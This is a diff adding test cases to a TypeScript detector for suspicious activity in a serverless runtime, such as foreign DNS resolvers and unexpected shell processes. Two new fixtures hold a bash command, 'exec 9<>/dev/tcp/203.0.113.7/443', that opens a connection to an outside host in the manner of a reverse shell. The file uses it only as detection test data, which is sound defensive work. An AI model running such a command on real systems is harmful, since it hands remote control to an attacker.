@@ -24,6 +24,11 @@ function pythonClients(now: readonly string[], then: readonly string[]): Look {
 const look = (facts: Partial<Observation>, baseline?: Observation): Look => ({ now: nowOf(facts), ...(baseline === undefined ? {} : { baseline }) });
 const inside = (facts: Partial<Observation>): Look => ({ now: within(facts) });
 const one = (facts: Parameters<typeof processOf>[0]): Look => look({ processes: [processOf(facts)] });
+/** A process that was there at the end of init. */
+function sinceInit(facts: Parameters<typeof processOf>[0]): Look {
+  const process = processOf({ startMs: INIT_MS - 500, ...facts });
+  return look({ processes: [process] }, baselineOf({ processes: [INIT, EXTENSION, RUNTIME, process] }));
+}
 
 // prettier-ignore
 const CASES: Readonly<Record<string, Case>> = {
@@ -67,6 +72,9 @@ const CASES: Readonly<Record<string, Case>> = {
   'a resolver that code has set': { finds: 'foreign-resolver:medium', in: inside({ own: ownOf({ resolvers: ['8.8.8.8'] }) }), not: inside({}) },
   'a resolver of somebody that code has set': { finds: 'foreign-resolver:high', in: inside({ own: ownOf({ resolvers: ['203.0.113.9'] }) }), not: inside({ own: ownOf({ resolvers: ['9.9.9.9'] }) }), atMost: 'medium' },
   'questions of the runtime to somebody': { finds: 'foreign-resolver:high', in: look({ sockets: [socketOf({ protocol: 'udp', remoteAddress: '203.0.113.9', remotePort: 53, pids: [9] })] }), not: look({ sockets: [socketOf({ protocol: 'udp', remoteAddress: '8.8.4.4', remotePort: 53, pids: [9] })] }), atMost: 'medium' },
+  'what an import has started': { finds: 'shell-child:critical', in: sinceInit({ exe: '/bin/bash', argv: ['bash', '-c', 'exec 9<>/dev/tcp/203.0.113.7/443'], ppid: 9 }), not: sinceInit({ exe: '/bin/bash', argv: ['bash', '/opt/monitor/run.sh'], ppid: 5 }) },
+  'what an import has started and left to init': { finds: 'shell-child:critical', in: sinceInit({ exe: '/bin/bash', argv: ['bash', '-c', 'exec 9<>/dev/tcp/203.0.113.7/443'], ppid: 1, env: { LAMBDA_TASK_ROOT: '/var/task' } }), not: sinceInit({ exe: '/bin/bash', argv: ['bash', '/opt/monitor/run.sh'], ppid: 1 }) },
+  'a shell that has cut itself loose': { finds: 'survivor:high', in: one({ exe: '/bin/bash', argv: ['bash', 'x.sh'], ppid: 1 }), not: sinceInit({ exe: '/bin/bash', argv: ['bash', 'x.sh'], ppid: 9, session: 40, stdio: ['/dev/null', '/dev/null', '/dev/null'] }), atMost: 'medium' },
   'a second client in a runtime that has one': { finds: 'runtime-api-client:high', in: pythonClients(['700', '701'], ['700']), not: pythonClients(['700'], ['700']) },
   'a client that has connected anew': { finds: 'runtime-api-client:high', in: pythonClients(['700', '702'], ['700']), not: pythonClients(['701'], ['700']) },
   'an internal extension, there since init': { finds: 'runtime-api-client:high', in: pythonClients(['700', '703'], ['700']), not: pythonClients(['700', '701', '702'], ['700', '701']) },
